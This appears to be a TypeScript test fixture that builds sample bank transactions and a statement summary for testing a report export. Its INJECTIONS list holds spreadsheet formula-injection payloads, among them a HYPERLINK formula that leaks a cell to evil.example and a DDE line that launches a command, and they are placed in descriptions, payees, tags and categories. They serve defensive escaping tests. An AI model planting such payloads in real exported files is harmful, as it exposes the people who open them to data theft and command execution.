import { type ReportTransaction, type StatementSummary } from '../../src/domain/reports/index.js';

/** Text that spreadsheet programs would run as a formula if a writer let it through (OWASP's list). */
export const INJECTIONS = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
  '-5.00 refund',
  '@SUM(1)',
  "+1+cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
] as const;

const CATEGORIES = [
  { name: 'Salary', kind: 'income' },
  { name: 'Groceries', kind: 'expense' },
  { name: 'Rent', kind: 'expense' },
  { name: 'Savings', kind: 'transfer' },
  null,
] as const;

/**
 * Deterministic transactions over three months of 2024: the first rows carry the injection texts (in the
 * description, payee, note, tags and category), the rest are ordinary, with commas, quotes and accents.
 */
export function sampleTransactions(count: number): ReportTransaction[] {
  return Array.from({ length: count }, (_, i) => {
    const injection = INJECTIONS[i];
    return {
      id: `tx-${String(i).padStart(6, '0')}`,
      date: `2024-0${1 + Math.floor((i * 3) / count)}-${String(1 + (i % 28)).padStart(2, '0')}`,
      description: injection ?? `Café "Bon", order ${i}`,
      amountMinor: i % 4 === 0 ? 25_000_00 + i : -(1_234 + i * 17),
      currency: 'ZAR',
      category: injection ? { name: injection, kind: 'expense' } : CATEGORIES[i % CATEGORIES.length],
      tags: injection ? [injection, 'plain'] : i % 3 === 0 ? ['business'] : [],
      payee: injection ?? (i % 2 === 0 ? 'Woolworths, Sandton' : null),
      note: injection ?? null,
      account: i % 5 === 0 ? 'Credit card' : 'Cheque',
      statementId: 'stmt-1',
    };
  });
}

export const sampleStatements: StatementSummary[] = [
  {
    id: 'stmt-1',
    account: 'Cheque',
    currency: 'ZAR',
    periodStart: '2024-01-01',
    periodEnd: '2024-03-31',
    openingBalanceMinor: 10_000_00,
    closingBalanceMinor: 12_345_67,
    reconciled: true,
  },
];

export const sumMinor = (rows: readonly ReportTransaction[]): number =>
  rows.reduce((total, row) => total + row.amountMinor, 0);
